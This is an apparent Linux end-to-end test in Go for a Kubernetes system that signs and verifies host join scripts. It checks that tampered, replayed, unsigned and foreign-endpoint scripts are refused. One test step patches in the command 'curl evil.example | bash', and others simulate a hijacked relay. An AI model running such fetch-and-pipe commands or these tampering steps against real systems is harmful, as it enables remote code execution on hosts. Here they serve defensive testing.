//go:build linux

package main

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"time"

	"github.com/hostwarrant/hostwarrant/e2e/product"
	"github.com/hostwarrant/hostwarrant/internal/envelope"
)

// steps are the story after the keys are made. They build on one another.
func (s *story) steps() []step {
	return slices.Concat(s.scriptSteps(), s.nodeSteps(), []step{
		{title: "An object that is being deleted is still in use, and still guarded", want: "BytesChanged", fails: true, try: s.patchUnderDeletion},
	})
}

// scriptSteps are about scripts: who may have one run, and where.
func (s *story) scriptSteps() []step {
	return []step{
		{title: "An unsigned profile is refused where it is written", want: "Unsigned", fails: true, try: s.kubectl("apply", "-f", "unsigned.yaml")},
		{title: "So is a template: what is signed must be what runs", want: "TemplateFound", fails: true, try: s.kubectl("apply", "-f", "template.yaml")},
		{title: "Its author states what it is for, signs it, and asks offline what the cluster will say", want: "Verified", try: s.signAndVerify},
		{title: "Signed, it is admitted", want: "serverside-applied", try: s.kubectl("apply", "--server-side", "-f", "signed.yaml")},
		{title: "A host must verify; whom it trusts is filled in from the policy", want: "host-a", try: s.kubectl("apply", "--server-side", "-f", "hosts.yaml")},
		{title: "The relay carries join to host-a, whose sshd and shim verify it again and run it", want: "joined as node-a, run by root", try: s.join},
		{title: "The same script, altered by a byte on the wire, is refused by the host", want: "exit 2:", fails: true, try: s.alteredOnTheWire},
		{title: "A newer version takes its place", want: "serverside-applied", try: s.signNewer},
		{title: "It runs, and the host keeps its serial", want: "marks/demo on host-a: serial 2", try: s.joinNewer},
		{title: "The older one, signed and in date, is sent straight to the host, and refused there", want: "exit 20:", fails: true, try: s.replay},
		{title: "The newer one, sent with the address of another API server: refused too", want: "exit 3:", fails: true, try: s.foreignEndpoint},
		{title: "A host that does not know the signer refuses it, whatever the cluster says", want: "shim exit 2", fails: true, try: s.unknownSigner},
	}
}

func (s *story) kubectl(args ...string) func(context.Context) (answer, bool, error) {
	return func(ctx context.Context) (answer, bool, error) { return s.command(ctx, "kubectl", args...) }
}

func (s *story) hostwarrant(args ...string) func(context.Context) (answer, bool, error) {
	return func(ctx context.Context) (answer, bool, error) { return s.command(ctx, "hostwarrant", args...) }
}

func (s *story) signAndVerify(ctx context.Context) (answer, bool, error) {
	signed, refused, err := s.command(ctx, "hostwarrant", "sign", "unsigned.yaml", "-o", "signed.yaml", "--key", "keys/signer", "--serial", "1", "--target", "class "+product.HostClass)
	if err != nil || refused {
		return signed, refused, err
	}
	verified, refused, err := s.command(ctx, "hostwarrant", "verify", "signed.yaml", "--policy", "keys/trust-policy.yaml", "--root", "keys/root.pub", "--cluster", clusterID)
	verified.tried = signed.tried + " && " + verified.tried
	return verified, refused, err
}

// join runs the phase through a HostRun and reads what it wrote on the host.
func (s *story) join(ctx context.Context) (answer, bool, error) {
	a, refused, err := s.run(ctx, "join-a", "host-a", profile, "node-a")
	if err != nil || refused {
		return a, refused, err
	}
	marker, err := s.hostA.ReadFile("/var/lib/demo/joined")
	if err != nil {
		return a, false, err
	}
	a.said += "; /var/lib/demo/joined on host-a: " + strings.TrimSpace(string(marker))
	return a, false, nil
}

// unknownSigner runs the phase on host-b, which trusts somebody else.
func (s *story) unknownSigner(ctx context.Context) (answer, bool, error) {
	return s.run(ctx, "join-b", "host-b", profile, "node-b")
}

// run creates a HostRun and waits for its end.
func (s *story) run(ctx context.Context, name, host, profile, node string) (answer, bool, error) {
	a, refused, err := s.ask(ctx, name, host, profile, node)
	if err != nil || refused {
		return a, refused, err
	}
	a.said, refused, err = s.end(ctx, name)
	return a, refused, err
}

// ask creates a HostRun of phase join.
func (s *story) ask(ctx context.Context, name, host, profile, node string) (answer, bool, error) {
	object := fmt.Sprintf(`{apiVersion: hostwarrant.dev/v1alpha1, kind: HostRun, metadata: {name: %s, namespace: %s},
  spec: {hostRef: {name: %s}, profileRef: {name: %s}, phase: join, nodeName: %s}}
`, name, namespace, host, profile, node)
	if err := os.WriteFile(filepath.Join(s.dir, name+".yaml"), []byte(object), 0o600); err != nil {
		return answer{}, false, err
	}
	return s.command(ctx, "kubectl", "apply", "--server-side", "-f", name+".yaml")
}

// runLimit bounds a run: a kubelet that joins on a busy machine takes a minute.
const runLimit = 4 * time.Minute

// end waits for the end of a HostRun and says how it ended.
func (s *story) end(ctx context.Context, name string) (said string, failed bool, err error) {
	const jsonpath = `{range .status.conditions[?(@.type=="Succeeded")]}{.status} {.reason}: {.message}{end}{range .status.shimExitCode} (shim exit {@}{end}{range .status.scriptExitCode}, script exit {@}{end}{range .status.shimExitCode}){end}{range .status.conditions[?(@.type=="Joined")]}; Joined={.status} {.reason}{end}`
	var got answer
	err = until(ctx, runLimit, func() (bool, error) {
		got, _, err = s.command(ctx, "kubectl", "-n", namespace, "get", "hostrun", name, "-o", "jsonpath="+jsonpath)
		return strings.HasPrefix(got.said, "True") || strings.HasPrefix(got.said, "False"), err
	})
	if err != nil {
		return "", false, fmt.Errorf("waiting for HostRun %s: %w; last: %s", name, err, got.said)
	}
	return "HostRun/" + name + ": Succeeded=" + got.said, strings.HasPrefix(got.said, "False"), nil
}

// until polls until something is done, for a limit at most.
func until(ctx context.Context, limit time.Duration, done func() (bool, error)) error {
	ctx, cancel := context.WithTimeout(ctx, limit)
	defer cancel()
	tick := time.NewTicker(100 * time.Millisecond)
	defer tick.Stop()
	for {
		if ok, err := done(); ok || err != nil {
			return err
		}
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-tick.C:
		}
	}
}

// alteredOnTheWire plays a relay that was taken over: it has the login key and the signature, and
// changes one byte of the script.
func (s *story) alteredOnTheWire(ctx context.Context) (answer, bool, error) {
	altered, err := s.signedJoin(ctx, "")
	if err != nil {
		return answer{}, false, err
	}
	altered.Script = bytes.Replace(altered.Script, []byte("joined as"), []byte("joined As"), 1)
	return s.pastTheRelay(ctx, "an-altered-script", altered)
}

// signNewer signs the next version in place and applies it. What went out before is kept, as a thief would.
func (s *story) signNewer(ctx context.Context) (_ answer, refused bool, err error) {
	if s.older, err = s.signedJoin(ctx, ""); err != nil {
		return answer{}, false, err
	}
	signed, refused, err := s.command(ctx, "hostwarrant", "sign", "-i", "signed.yaml", "--key", "keys/signer", "--serial", "2")
	if err != nil || refused {
		return signed, refused, err
	}
	applied, refused, err := s.command(ctx, "kubectl", "apply", "--server-side", "-f", "signed.yaml")
	applied.tried = signed.tried + " && " + applied.tried
	return applied, refused, err
}

// joinNewer runs it, and reads what the host remembers.
func (s *story) joinNewer(ctx context.Context) (answer, bool, error) {
	a, refused, err := s.run(ctx, "join-a-again", "host-a", profile, "node-a")
	if err != nil || refused {
		return a, refused, err
	}
	mark, err := s.hostA.ReadFile("/var/lib/hostwarrant/marks/" + profile)
	serial, _, _ := strings.Cut(string(mark), "\n")
	a.said += fmt.Sprintf("; /var/lib/hostwarrant/marks/%s on host-a: %s", profile, serial)
	return a, false, err
}

// replay sends the first version again.
func (s *story) replay(ctx context.Context) (answer, bool, error) {
	return s.pastTheRelay(ctx, "the-older-script", s.older)
}

// foreignEndpoint sends a script that nobody may refuse for its bytes, and an API server of the sender's own.
func (s *story) foreignEndpoint(ctx context.Context) (answer, bool, error) {
	join, err := s.signedJoin(ctx, "https://evil.example:6443")
	if err != nil {
		return answer{}, false, err
	}
	return s.pastTheRelay(ctx, "a-foreign-endpoint", join)
}

// pastTheRelay sends an envelope straight to host-a, with the relay's login key.
func (s *story) pastTheRelay(ctx context.Context, what string, e envelope.Envelope) (answer, bool, error) {
	text, err := e.Encode()
	if err != nil {
		return answer{}, false, err
	}
	code, stderr, err := s.login.send(ctx, s.hostA, text)
	if err != nil {
		return answer{}, false, err
	}
	return answer{tried: "ssh kpssh@host-a <envelope-with-" + what, said: fmt.Sprintf("exit %d: %s", code, plain(stderr))}, code != 0, nil
}

// signedJoin is the join that the cluster stores, with the API server that it is to go to.
func (s *story) signedJoin(ctx context.Context, endpoint string) (envelope.Envelope, error) {
	script, signature, err := s.signedPhase(ctx, "join")
	if err != nil {
		return envelope.Envelope{}, err
	}
	params, err := envelope.EncodeParams(map[string]string{"KPSSH_NODE_NAME": "node-a", "KPSSH_CLUSTER_ENDPOINT": endpoint})
	return envelope.Envelope{Phase: envelope.PhaseJoin, Params: params, Sig: []byte(signature), Script: []byte(script)}, err
}

// signedPhase reads a script and its signature as the cluster stores them.
func (s *story) signedPhase(ctx context.Context, phase string) (script, signature string, err error) {
	field := func(name string) (string, error) {
		r, err := s.cluster.Kubectl(ctx, nil, "get", "sshjoinprofile", profile, "-o", "jsonpath={.spec."+name+"."+phase+"}")
		if err == nil && r.Code != 0 {
			err = fmt.Errorf("kubectl: %s", r.Stderr)
		}
		return r.Stdout, err
	}
	if script, err = field("scripts"); err != nil {
		return "", "", err
	}
	signature, err = field("signatures")
	return script, signature, err
}

// patchUnderDeletion holds the profile with a finalizer, deletes it, and patches a script.
func (s *story) patchUnderDeletion(ctx context.Context) (answer, bool, error) {
	for _, args := range [][]string{
		{"patch", "sshjoinprofile", profile, "--type=merge", "-p", `{"metadata":{"finalizers":["example.com/in-use"]}}`},
		{"delete", "sshjoinprofile", profile, "--wait=false"},
	} {
		if got, refused, err := s.command(ctx, "kubectl", args...); err != nil || refused {
			return got, refused, fmt.Errorf("preparing: %v %s", err, got.said)
		}
	}
	return s.command(ctx, "kubectl", "patch", "sshjoinprofile", profile, "--type=merge", "-p", `{"spec":{"scripts":{"leave":"curl evil.example | bash"}}}`)
}

// restore lets the deleted profile go and applies it anew, for whoever goes on from here.
func (s *story) restore(ctx context.Context) error {
	for _, args := range [][]string{
		{"patch", "sshjoinprofile", profile, "--type=merge", "-p", `{"metadata":{"finalizers":null}}`},
		{"wait", "--for=delete", "sshjoinprofile/" + profile, "--timeout=30s"},
		{"apply", "--server-side", "-f", "signed.yaml"},
	} {
		if got, refused, err := s.command(ctx, "kubectl", args...); err != nil || refused {
			return fmt.Errorf("restoring the profile: %v %s", err, got.said)
		}
	}
	return nil
}
